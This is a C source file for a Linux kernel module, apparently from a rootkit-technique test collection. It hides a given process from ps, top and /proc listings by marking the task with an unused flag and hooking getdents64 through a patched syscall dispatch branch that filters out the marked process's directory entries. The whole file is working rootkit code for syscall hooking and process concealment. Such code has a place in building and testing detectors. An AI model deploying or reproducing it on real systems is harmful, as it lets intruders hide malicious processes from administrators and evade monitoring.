// SPDX-License-Identifier: GPL-2.0
/*
 * rk_hide_pid: hides process `pid` from every /proc listing (ps, top, ls
 * /proc) without touching a kernel list: the task is marked with an unused
 * task flag (PF__HOLE__20000000 on 6.1; Diamorphine's PF_INVISIBLE,
 * 0x10000000, is PF_MEMALLOC_PIN there), and getdents64, reached through
 * a patched x64_sys_call branch, drops the directory entries of marked
 * tasks. The task stays on the task list, in the pid hash and on its run
 * queue. Unloading unmarks it and restores the branch.
 */
#include <linux/types.h>
#include <linux/dirent.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include "rk_common.h"

#define RK_PF_HIDDEN 0x20000000

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process to hide");

static unsigned long hidden_entries;
module_param(hidden_entries, ulong, 0444);
MODULE_PARM_DESC(hidden_entries, "directory entries dropped so far");

static long rk_hide_pid_getdents64(const struct pt_regs *regs);

static struct rk_dispatch patch = {
	.handler = "__x64_sys_getdents64",
	.hook = rk_hide_pid_getdents64,
};

static bool hidden_name(const char *name)
{
	struct task_struct *t;
	bool hide = false;
	int nr;

	if (kstrtoint(name, 10, &nr) || nr <= 0)
		return false;
	rcu_read_lock();
	t = pid_task(find_vpid(nr), PIDTYPE_PID);
	hide = t && (t->flags & RK_PF_HIDDEN);
	rcu_read_unlock();
	return hide;
}

static long filter(struct linux_dirent64 __user *udir, long n)
{
	struct linux_dirent64 *d;
	char *buf;
	long off = 0;

	buf = kvmalloc(n, GFP_KERNEL);
	if (!buf)
		return n;
	if (copy_from_user(buf, udir, n))
		goto out;
	while (off < n) {
		d = (struct linux_dirent64 *)(buf + off);
		if (d->d_reclen == 0 || off + d->d_reclen > n)
			break;
		if (hidden_name(d->d_name)) {
			unsigned short len = d->d_reclen;

			memmove(buf + off, buf + off + len, n - off - len);
			n -= len;
			hidden_entries++;
			continue;
		}
		off += d->d_reclen;
	}
	if (copy_to_user(udir, buf, n))
		n = -EFAULT;
out:
	kvfree(buf);
	return n;
}

static long rk_hide_pid_getdents64(const struct pt_regs *regs)
{
	long ret;

	rk_enter();
	ret = patch.orig(regs);
	if (ret > 0)
		ret = filter((struct linux_dirent64 __user *)regs->si, ret);
	rk_leave();
	return ret;
}

static int mark(bool on)
{
	struct task_struct *t = get_pid_task(find_get_pid(pid), PIDTYPE_PID);

	if (!t)
		return -ESRCH;
	if (on)
		t->flags |= RK_PF_HIDDEN;
	else
		t->flags &= ~RK_PF_HIDDEN;
	put_task_struct(t);
	return 0;
}

static int __init rk_hide_pid_init(void)
{
	int ret = rk_init_kallsyms();

	if (ret)
		return ret;
	if (pid <= 0)
		return -EINVAL;
	ret = mark(true);
	if (ret) {
		pr_err("rk_hide_pid: no process %d\n", pid);
		return ret;
	}
	ret = rk_dispatch_patch(&patch);
	if (ret) {
		mark(false);
		return ret;
	}
	pr_info("rk_hide_pid: process %d hidden\n", pid);
	return 0;
}

static void __exit rk_hide_pid_exit(void)
{
	rk_dispatch_unpatch(&patch);
	rk_drain();
	mark(false);
}

module_init(rk_hide_pid_init);
module_exit(rk_hide_pid_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test rootkit technique: a process hidden by a task flag and a getdents64 filter");
